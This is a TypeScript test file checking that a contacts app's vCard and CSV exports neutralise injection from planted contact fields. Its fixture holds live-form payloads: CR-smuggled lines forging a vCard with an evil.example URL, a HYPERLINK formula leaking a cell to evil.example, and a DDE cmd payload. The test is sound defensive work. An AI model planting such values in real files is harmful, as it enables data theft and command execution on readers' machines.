/**
 * Attacker: someone whose text ends up in the user's vault — a name on a business card, a contact
 * shared with them, an imported file — and who wants the user's exports to attack the next program:
 * a vCard reader that takes a bare CR as a line end (and so a forged second card or web address), or
 * a spreadsheet that runs a cell as a formula (=HYPERLINK, DDE). Exports neutralise both
 * (shared/interop/export-contacts.ts); the fuzzed round trip is in export-contacts.test.ts.
 */
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { ContactDraftSchema } from '../../shared/domain/contact.ts';
import { exportContacts } from '../../shared/interop/export-contacts.ts';
import { parseVcards } from '../../shared/interop/vcard.ts';
import { utf8 } from '../../shared/vault-format/bytes.ts';

const planted = ContactDraftSchema.parse({
  familyName: 'Tanaka\rEND:VCARD\rBEGIN:VCARD\rVERSION:4.0\rFN:Forged\rURL:https://evil.example/login',
  givenName: 'Hanako',
  familyNameKana: '',
  givenNameKana: '',
  company: '=HYPERLINK("https://evil.example/?d="&A2,"Open")',
  title: '@SUM(1+1)*cmd|" /C calc"!A0',
  channels: [{ kind: 'email', value: 'hanako@example.com', label: 'work"\r\nURL:https://evil.example/label' }],
});

describe('an export cannot attack the program that reads it', () => {
  test.each(['vcard4', 'vcard3'] as const)('%s: text with bare CRs or line breaks in a label stays inside its own card and property', (format) => {
    const file = exportContacts([planted], format, 0);
    const { cards } = parseVcards(utf8(file));
    expect(cards).toHaveLength(1);
    expect(cards[0]!.draft.channels?.filter((channel) => channel.kind !== 'email')).toEqual([]);
    expect(file.split('\r\n').filter((line) => /^(BEGIN|END|URL|FN)[:;]/.test(line))).toEqual(['BEGIN:VCARD', expect.stringMatching(/^FN:/), 'END:VCARD']);
    expect(file).not.toMatch(/\r(?!\n)/);
  });

  test('csv: cells a spreadsheet would run start with an apostrophe', () => {
    const [header, row] = Papa.parse<string[]>(exportContacts([planted], 'csv', 0).replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    const cell = (name: string) => row![header!.indexOf(name)]!;
    expect(cell('Organization Name')).toBe(`'${planted.company}`);
    expect(cell('Organization Title')).toBe(`'${planted.title}`);
  });
});
